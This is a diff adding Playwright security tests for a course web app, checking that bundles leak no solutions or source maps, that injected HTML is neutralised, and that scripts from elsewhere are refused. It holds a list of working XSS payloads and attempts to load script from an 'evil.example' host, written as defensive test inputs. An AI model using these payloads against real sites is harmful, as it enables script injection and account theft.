@@ -1,0 +1,113 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+import { expect, signIn, test } from './people.ts';
+
+const WEB = join(import.meta.dirname, '../apps/web/dist');
+const COURSES = join(import.meta.dirname, '../content/courses');
+
+/** Every file below a folder, as paths within it. */
+function filesBelow(folder: string): string[] {
+  return readdirSync(folder, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile())
+    .map((entry) => join(entry.parentPath, entry.name).slice(folder.length + 1));
+}
+
+/** The longest line of a text: long enough to be that file's alone. */
+function tellingLine(path: string): string {
+  const lines = readFileSync(path, 'utf8').split('\n');
+  return lines.toSorted((a, b) => b.length - a.length)[0]?.trim() ?? '';
+}
+
+test('research/security.md 1.5: no bundle holds a solution or a test, and there are no source maps', async ({
+  request,
+}) => {
+  const secrets = filesBelow(COURSES)
+    .filter((name) => /\/(?:submissions|secret)\//.test(name))
+    .map((name) => tellingLine(join(COURSES, name)))
+    .filter((line) => line.length >= 40);
+  expect(secrets.length).toBeGreaterThan(40);
+  const files = filesBelow(WEB).filter((name) => !/\.(?:br|gz|woff2|png|ico)$/.test(name));
+  expect(files.filter((name) => name.endsWith('.map'))).toEqual([]);
+  for (const name of files) {
+    const answer = await request.get(`/${name}`);
+    expect(answer.ok(), name).toBe(true);
+    const text = await answer.text();
+    expect(text, name).not.toContain('sourceMappingURL');
+    expect(
+      secrets.filter((secret) => text.includes(secret)),
+      name,
+    ).toEqual([]);
+    const map = await request.get(`/${name}.map`);
+    expect(map.status(), `${name}.map`).toBe(404);
+  }
+});
+
+const HOSTILE = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">here</a>',
+  '<a href="\u0001java\tscript:alert(1)">here</a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<object data="javascript:alert(1)"></object>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<template><img src=x onerror=alert(1)></template>',
+];
+
+test('ASVS 3.2.2, T8: HTML that reaches a sink by mistake runs nothing and keeps nothing active', async ({
+  page,
+  account,
+}) => {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await signIn(page, account);
+  await page.goto('/dashboard');
+  await expect(page.getByRole('main')).toBeVisible();
+  const left = await page.evaluate((texts) => {
+    const host = document.createElement('div');
+    document.body.append(host);
+    return texts.map((text) => {
+      host.innerHTML = text;
+      return host.innerHTML;
+    });
+  }, HOSTILE);
+  for (const html of left) {
+    expect(html).not.toMatch(/<(?:script|iframe|object|base|meta)|\son\w+=|javascript|srcdoc/i);
+  }
+  expect(dialogs).toEqual([]);
+});
+
+test('ASVS 3.4.3: a script from elsewhere, or made of a text, is refused', async ({ page, account }) => {
+  await signIn(page, account);
+  await page.goto('/dashboard');
+  await expect(page.getByRole('main')).toBeVisible();
+  const refused = await page.evaluate(() => {
+    const attempts: (() => unknown)[] = [
+      () => {
+        document.createElement('script').src = 'https://evil.example/x.js';
+      },
+      () => {
+        document.createElement('script').text = 'alert(1)';
+      },
+      () => new Worker('https://evil.example/x.js'),
+    ];
+    return attempts.map((attempt) => {
+      try {
+        attempt();
+        return 'taken';
+      } catch (error) {
+        return error instanceof TypeError ? 'refused' : String(error);
+      }
+    });
+  });
+  expect(refused).toEqual(['refused', 'refused', 'refused']);
+});
